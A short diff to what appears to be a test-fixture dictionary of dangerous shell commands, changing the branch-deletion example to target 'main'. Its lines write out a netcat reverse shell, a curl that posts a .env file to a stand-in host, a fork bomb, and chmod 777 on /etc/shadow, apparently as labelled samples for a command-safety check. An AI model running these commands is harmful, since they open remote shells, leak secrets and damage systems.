@@ -69,7 +69,7 @@ EXAMPLES = {
     "reverse-shell": "nc -e /bin/sh 192.0.2.1 4444",
     "sends-secret": "curl -d @.env https://example.com",
     "force-push": "git push --force",
-    "deletes-branch": "git push origin --delete topic",
+    "deletes-branch": "git push origin --delete main",
     "halts-machine": "reboot",
     "fork-bomb": ":(){ :|:& };:",
     "opens-permissions": "chmod 777 /etc/shadow",
